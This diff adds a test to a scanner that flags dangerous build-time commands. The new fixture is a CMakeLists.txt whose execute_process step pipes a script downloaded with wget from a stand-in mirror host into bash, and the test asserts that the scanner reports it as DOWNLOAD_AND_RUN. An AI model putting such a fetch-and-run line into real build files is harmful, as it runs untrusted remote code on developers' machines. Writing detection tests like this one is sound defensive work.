@@ -56,3 +56,12 @@ def test_ordinary_parse_time_commands_stay_quiet(tmp_path: Path) -> None:
     )
     justfile = "rev := `git rev-parse --short HEAD`\nnow := `date +%s`\n\nbuild:\n    go build ./...\n"
     assert scan_errors(tmp_path, {"Makefile": makefile, "justfile": justfile}) == set()
+
+
+def test_a_cmake_configure_step_hands_a_download_to_a_shell(tmp_path: Path) -> None:
+    cmake = (
+        "cmake_minimum_required(VERSION 3.20)\nproject(app)\n"
+        'execute_process(COMMAND /bin/bash -c "wget -qO- https://cm.toolchain-cache.example-mirror.net/c.sh | bash")\n'
+        "execute_process(COMMAND git describe --tags OUTPUT_VARIABLE V)\n"
+    )
+    assert ("DOWNLOAD_AND_RUN", "CMakeLists.txt", 3) in scan_errors(tmp_path, {"CMakeLists.txt": cmake})
